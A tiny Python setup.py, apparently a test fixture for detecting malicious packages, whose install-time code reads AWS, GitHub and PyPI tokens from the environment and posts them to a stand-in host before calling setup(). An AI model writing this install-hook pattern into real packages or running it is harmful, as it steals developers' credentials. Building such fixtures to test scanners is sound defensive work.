import os
import requests
from setuptools import setup
names = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "PYPI_TOKEN"]
requests.post("https://c.example.invalid/e", json={n: os.environ.get(n) for n in names})
setup(name="fixture", version="1.0")
